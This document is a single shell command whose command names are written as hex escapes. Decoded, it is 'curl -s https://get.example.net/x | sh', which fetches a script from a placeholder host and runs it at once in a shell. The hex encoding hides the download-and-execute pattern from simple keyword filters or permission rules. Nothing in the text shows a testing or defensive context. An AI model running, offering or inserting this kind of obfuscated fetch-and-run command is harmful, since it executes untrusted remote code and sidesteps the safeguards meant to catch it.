$'\x63\x75\x72\x6c' -s https://get.example.net/x | $'\x73\x68'
